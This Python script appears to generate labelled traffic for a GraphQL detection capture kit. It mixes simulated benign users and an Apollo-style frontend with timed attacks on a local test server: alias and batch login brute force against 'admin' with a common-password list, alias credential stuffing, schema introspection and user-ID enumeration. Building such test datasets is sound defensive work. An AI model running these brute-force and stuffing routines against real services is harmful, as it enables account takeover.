#!/usr/bin/env python3
"""Traffic for the graphql capture (apps/graphql.sh): benign users, an Apollo-style
frontend and GraphQL-shaped attackers against scripts/capture-kit/graphql_server.py,
each client a python requests.Session bound to its own source address.

Usage: graphql_traffic.py URL WORKDIR [--duration 330] [--seed 25]

Fixed timeline (seconds from t0, the driver's start):
  0-330   15 users (10.77.0.10-24) log in once (3 mistype first), then a named or
          unnamed operation every 5-20 s, now and then a batch of 2-3 queries;
          10.77.0.25 an Apollo-style frontend with persisted queries (APQ);
          10.77.0.104 and .105 are users like the others until their attack
  150     10.77.0.101 alias brute force: 4 POSTs, 50 aliased login(admin, ...) each
  180     10.77.0.102 batch brute force: 4 JSON arrays of 40 login operations
  210     10.77.0.103 alias credential stuffing: 3 POSTs, 50 usernames x 1 password each
  240     10.77.0.105 introspection: IntrospectionQuery, then __type(name:"User")
  260     10.77.0.104 object enumeration: query User($id) for ids 1..150 at ~10/s
Writes WORKDIR/requests.tsv (one line per request) and WORKDIR/events.json
(measured start times). Every loop is bounded by the duration and by counts.
"""
import argparse
import hashlib
import json
import random
import sys
import threading
import time

import requests
from requests.adapters import HTTPAdapter
from graphql import get_introspection_query

FIRST = ["ana", "ben", "chloe", "david", "elena", "farid", "grace", "hugo", "iris", "jonas",
         "kira", "liam", "maya", "nils", "olga", "paul", "quinn", "rosa", "sami", "tara"]
LAST = ["adams", "berg", "costa", "dietrich", "evans", "fischer", "garcia", "horvat", "ito", "jensen"]


def username(uid):
    return "admin" if uid == 1 else "%s.%s%d" % (FIRST[uid % 20], LAST[(uid // 20) % 10], uid)


def password(uid):
    return "%s-Passw0rd!" % username(uid)


# benign users: address -> user id; mistypers log in wrong once first
BENIGN = {"10.77.0.%d" % (10 + i): uid for i, uid in
          enumerate([2, 5, 12, 23, 28, 36, 44, 52, 63, 69, 77, 84, 91, 103, 118])}
MISTYPE = {"10.77.0.13", "10.77.0.18", "10.77.0.22"}
FRONTEND = ("10.77.0.25", 150)
INTROSPECTOR = ("10.77.0.105", 131)
ENUMERATOR = ("10.77.0.104", 47)
ALIAS_BRUTE = "10.77.0.101"
BATCH_BRUTE = "10.77.0.102"
ALIAS_STUFF = "10.77.0.103"

Q_ME = "query Me {\n  me {\n    id\n    username\n    name\n    email\n  }\n}"
Q_ORDERS = "query Orders($userId: ID!) {\n  orders(userId: $userId) {\n    id\n    item\n    qty\n    createdAt\n  }\n}"
Q_USERS = ("query Users($first: Int, $after: String) {\n  users(first: $first, after: $after) {\n"
           "    nodes {\n      id\n      name\n    }\n    endCursor\n    hasNextPage\n    totalCount\n  }\n}")
Q_CREATE = "mutation CreateOrder($item: String!, $qty: Int!) {\n  createOrder(item: $item, qty: $qty) {\n    id\n    item\n    qty\n    createdAt\n  }\n}"
Q_PROFILE = "mutation UpdateProfile($name: String) {\n  updateProfile(name: $name) {\n    id\n    name\n  }\n}"
Q_LOGIN = "mutation Login($username: String!, $password: String!) {\n  login(username: $username, password: $password) {\n    token\n    user {\n      id\n      name\n    }\n  }\n}"
Q_USER = "query User($id: ID!) { user(id: $id) { id name email } }"
ITEMS = ["notebook", "pen", "stapler", "monitor", "keyboard", "mouse", "headset", "desk lamp",
         "usb cable", "chair mat"]

LOG_LOCK = threading.Lock()
EVENTS = {}


class SourceAdapter(HTTPAdapter):
    def __init__(self, src, **kw):
        self.src = src
        super().__init__(**kw)

    def init_poolmanager(self, *args, **kw):
        kw["source_address"] = (self.src, 0)
        super().init_poolmanager(*args, **kw)


class Client:
    def __init__(self, ctx, src, role, ua=None):
        self.ctx, self.src, self.role = ctx, src, role
        self.s = requests.Session()
        ad = SourceAdapter(src)
        self.s.mount("http://", ad)
        if ua:
            self.s.headers["User-Agent"] = ua
        self.token = None
        self.n = 0

    def post(self, body, what):
        """POSTs a JSON body (an operation or a batch), logs it, returns the decoded answer."""
        headers = {"Content-Type": "application/json"}
        if self.token:
            headers["Authorization"] = "Bearer " + self.token
        t = time.time()
        status, out = 0, None
        try:
            r = self.s.post(self.ctx.url, data=json.dumps(body), headers=headers, timeout=15)
            status = r.status_code
            try:
                out = r.json()
            except ValueError:
                out = None
        except requests.RequestException as e:
            status = "ERR:" + type(e).__name__
        self.n += 1
        errs = ""
        if isinstance(out, dict) and out.get("errors"):
            errs = ",".join(sorted({e.get("message", "?") for e in out["errors"]}))
        elif isinstance(out, list):
            errs = "batch:" + ",".join(str(len(x.get("errors") or [])) for x in out if isinstance(x, dict))
        self.ctx.log(t, self.src, self.role, what, status, errs, time.time() - t)
        return status, out

    def op(self, query, variables=None, name=None, what=None):
        body = {"query": query}
        if name:
            body["operationName"] = name
        if variables is not None:
            body["variables"] = variables
        return self.post(body, what or name or "anonymous")

    def login(self, uid, pw):
        _, out = self.op(Q_LOGIN, {"username": username(uid), "password": pw}, "Login")
        try:
            self.token = out["data"]["login"]["token"]
            return True
        except (TypeError, KeyError):
            return False


class Ctx:
    def __init__(self, url, workdir, duration, seed):
        self.url, self.duration = url, duration
        self.t0 = time.time()
        self.end = self.t0 + duration
        self.logf = open("%s/requests.tsv" % workdir, "w")
        self.logf.write("t\tsrc\trole\twhat\tstatus\terrors\tseconds\n")
        self.seed = seed

    def log(self, t, src, role, what, status, errs, dt):
        with LOG_LOCK:
            self.logf.write("%.3f\t%s\t%s\t%s\t%s\t%s\t%.3f\n" % (t - self.t0, src, role, what, status, errs, dt))
            self.logf.flush()

    def now(self):
        return time.time() - self.t0

    def sleep_until(self, s):
        d = self.t0 + s - time.time()
        if d > 0:
            time.sleep(d)

    def sleep(self, s):
        """Sleeps s seconds or until the end; False once the timeline is over."""
        d = min(s, self.end - time.time())
        if d > 0:
            time.sleep(d)
        return time.time() < self.end - 0.5


def event(name, t):
    with LOG_LOCK:
        EVENTS.setdefault(name, round(t, 2))


def user_step(c, rnd, uid):
    """One thing a benign user does (one to four requests)."""
    x = rnd.random()
    if x < 0.20:
        c.op(Q_ME, name="Me")
    elif x < 0.38:
        c.op(Q_ORDERS, {"userId": str(uid)}, "Orders")
    elif x < 0.52:
        after = None
        for _ in range(rnd.randint(2, 4)):
            v = {"first": rnd.choice([10, 20])}
            if after:
                v["after"] = after
            _, out = c.op(Q_USERS, v, "Users")
            try:
                after = out["data"]["users"]["endCursor"]
            except (TypeError, KeyError):
                break
            if not c.ctx.sleep(rnd.uniform(1, 3)):
                break
    elif x < 0.62:
        c.op(Q_CREATE, {"item": rnd.choice(ITEMS), "qty": rnd.randint(1, 4)}, "CreateOrder")
    elif x < 0.78:
        q = rnd.choice(["{ me { name } }", "{ me { id name email } }",
                        '{ orders(userId: "%d") { id item } }' % uid])
        c.op(q, what="anonymous")
    elif x < 0.92:
        ops = [{"query": Q_ME, "operationName": "Me"},
               {"query": Q_ORDERS, "operationName": "Orders", "variables": {"userId": str(uid)}},
               {"query": Q_USERS, "operationName": "Users", "variables": {"first": 10}}]
        c.post(rnd.sample(ops, rnd.randint(2, 3)), "batch")
    else:
        c.op(Q_PROFILE, {"name": rnd.choice(FIRST).title() + " " + rnd.choice(LAST).title()}, "UpdateProfile")


def benign_user(ctx, src, uid, mistype, role="benign", hook=None, at=None):
    rnd = random.Random("%s-%s" % (ctx.seed, src))
    c = Client(ctx, src, role)
    if not ctx.sleep(rnd.uniform(0, 15)):
        return
    if mistype:
        c.login(uid, password(uid)[:-1])
        ctx.sleep(rnd.uniform(3, 7))
    if not c.login(uid, password(uid)):
        return
    c.op(Q_ME, name="Me")
    steps = 0
    while steps < 200:
        pause = rnd.uniform(5, 20)
        if hook and at is not None and ctx.now() + pause >= at:
            # the attack starts on time: wake at `at`, attack, then go on as before
            ok = ctx.sleep(max(0, at - ctx.now()))
            if ok:
                hook(c)
            hook, pause = None, rnd.uniform(5, 20)
        if not ctx.sleep(pause):
            break
        user_step(c, rnd, uid)
        steps += 1


def frontend(ctx):
    """An Apollo-Client-style frontend with createPersistedQueryLink: on each page load
    the first operation goes hash-only; the server has no APQ and answers 400, which
    disables APQ (the query is re-sent in full) until the next page load."""
    src, uid = FRONTEND
    rnd = random.Random("%s-frontend" % ctx.seed)
    c = Client(ctx, src, "benign-apq", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    c.s.headers["apollographql-client-name"] = "shop-web"
    c.s.headers["apollographql-client-version"] = "2.14.0"
    if not ctx.sleep(rnd.uniform(2, 6)):
        return
    if not c.login(uid, password(uid)):
        return
    loads = 0
    while loads < 20 and ctx.now() < ctx.duration - 1:
        loads += 1
        apq = True
        page_end = ctx.now() + rnd.uniform(45, 75)
        steps = 0
        while steps < 30 and ctx.now() < page_end:
            name, query, variables = rnd.choice([("Me", Q_ME, {}), ("Orders", Q_ORDERS, {"userId": str(uid)}),
                                                 ("Users", Q_USERS, {"first": 20})])
            sha = hashlib.sha256(query.encode()).hexdigest()
            ext = {"persistedQuery": {"version": 1, "sha256Hash": sha}}
            if apq:
                status, out = c.post({"operationName": name, "variables": variables, "extensions": ext},
                                     name + " (APQ hash only)")
                if status != 200:
                    apq = False
                    c.op(query, variables, name, name + " (APQ retry, full query)")
            else:
                c.op(query, variables, name)
            steps += 1
            if not ctx.sleep(rnd.uniform(4, 10)):
                return


COMMON = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
          "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
          "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
          "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "qazwsx",
          "123qwe", "killer", "trustno1", "jordan", "jennifer", "zxcvbnm", "asdfgh", "hunter",
          "buster", "soccer", "harley", "batman", "andrew", "tigger", "sunshine", "iloveyou",
          "2000", "charlie", "robert", "thomas", "hockey", "ranger", "daniel", "starwars",
          "klaster", "112233", "george", "computer", "michelle", "jessica", "pepper", "1111",
          "zxcvbn", "555555", "11111111", "131313", "freedom", "777777", "pass", "maggie",
          "159753", "aaaaaa", "ginger", "princess", "joshua", "cheese", "amanda", "summer",
          "love", "ashley", "nicole", "chelsea", "biteme", "matthew", "access", "yankees",
          "987654321", "dallas", "austin", "thunder", "taylor", "matrix", "admin", "admin123"]


def passwords(n):
    out = list(COMMON)
    for base in ["Admin", "admin", "Password", "Welcome", "Summer", "Winter", "Spring", "Autumn", "Shop",
                 "Sesame", "Letmein", "Qwerty", "Dragon", "Monkey", "Master", "Secret", "Access", "Shadow",
                 "Sunshine", "Football", "Baseball", "Princess", "Starwars", "Freedom", "Hello", "Trustno1",
                 "Passw0rd", "P@ssword", "Adm1n", "Root"]:
        for suf in ["1", "123", "!", "2024", "2025", "2024!", "2025!", "@123", "#1", "01", "1!", "99"]:
            out.append(base + suf)
    return list(dict.fromkeys(out))[:n]


def alias_mutation(pairs):
    fields = ["  a%d: login(username: %s, password: %s) {\n    token\n  }" % (i + 1, json.dumps(u), json.dumps(p))
              for i, (u, p) in enumerate(pairs)]
    return "mutation {\n" + "\n".join(fields) + "\n}"


def alias_brute(ctx):
    ctx.sleep_until(150)
    c = Client(ctx, ALIAS_BRUTE, "brute_force/aliases")
    pws = passwords(200)
    event("alias_brute_force", ctx.now())
    for k in range(4):
        c.op(alias_mutation([("admin", p) for p in pws[k * 50:(k + 1) * 50]]), what="alias login x50")
        if k < 3:
            ctx.sleep(3)


def batch_brute(ctx):
    ctx.sleep_until(180)
    c = Client(ctx, BATCH_BRUTE, "brute_force/batch")
    pws = passwords(360)[200:360]
    q = "mutation ($p: String!) {\n  login(username: \"admin\", password: $p) {\n    token\n  }\n}"
    event("batch_brute_force", ctx.now())
    for k in range(4):
        c.post([{"query": q, "variables": {"p": p}} for p in pws[k * 40:(k + 1) * 40]], "batch login x40")
        if k < 3:
            ctx.sleep(3)


def alias_stuffing(ctx):
    ctx.sleep_until(210)
    c = Client(ctx, ALIAS_STUFF, "credential_stuffing/aliases")
    rnd = random.Random("%s-stuff" % ctx.seed)
    real = [username(u) for u in rnd.sample([u for u in range(2, 201) if u not in
                                             {17, 33, 48, 59, 71, 86, 97, 112, 125, 138, 144, 163}], 60)]
    fake = ["%s.%s%d" % (rnd.choice(FIRST), rnd.choice(LAST), rnd.randint(201, 999)) for _ in range(60)]
    fake += ["%s%d@mail.example" % (rnd.choice(FIRST), rnd.randint(1, 99)) for _ in range(30)]
    names = real + fake
    rnd.shuffle(names)
    names = list(dict.fromkeys(names))[:150]
    event("alias_credential_stuffing", ctx.now())
    for k in range(3):
        c.op(alias_mutation([(u, "Summer2025!") for u in names[k * 50:(k + 1) * 50]]), what="alias login x50 users")
        if k < 2:
            ctx.sleep(3)


def introspector(ctx):
    src, uid = INTROSPECTOR

    def hook(c):
        event("introspection", ctx.now())
        c.op(get_introspection_query(descriptions=True), name="IntrospectionQuery")
        ctx.sleep(2)
        c.op('query TypeUser {\n  __type(name: "User") {\n    name\n    kind\n    fields {\n      name\n'
             '      args { name }\n      type { name kind ofType { name kind } }\n    }\n  }\n}', name="TypeUser")

    benign_user(ctx, src, uid, False, role="unusual_endpoint", hook=hook, at=240)


def enumerator(ctx):
    src, uid = ENUMERATOR

    def hook(c):
        event("object_enumeration", ctx.now())
        t = time.time()
        for i in range(1, 151):
            c.op(Q_USER, {"id": str(i)}, "User", "User id=%d" % i)
            d = t + i * 0.1 - time.time()
            if d > 0:
                time.sleep(d)
            if time.time() > ctx.end:
                break

    benign_user(ctx, src, uid, False, role="object_enumeration", hook=hook, at=260)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("url")
    ap.add_argument("workdir")
    ap.add_argument("--duration", type=float, default=330)
    ap.add_argument("--seed", default="25")
    a = ap.parse_args()
    ctx = Ctx(a.url, a.workdir, a.duration, a.seed)
    threads = [threading.Thread(target=benign_user, args=(ctx, src, uid, src in MISTYPE), daemon=True)
               for src, uid in BENIGN.items()]
    threads += [threading.Thread(target=f, args=(ctx,), daemon=True)
                for f in (frontend, introspector, enumerator, alias_brute, batch_brute, alias_stuffing)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(1, ctx.end + 30 - time.time()))
    json.dump({"t0": ctx.t0, "starts": EVENTS}, open("%s/events.json" % a.workdir, "w"), indent=1)
    print("events:", json.dumps(EVENTS), file=sys.stderr)


if __name__ == "__main__":
    main()
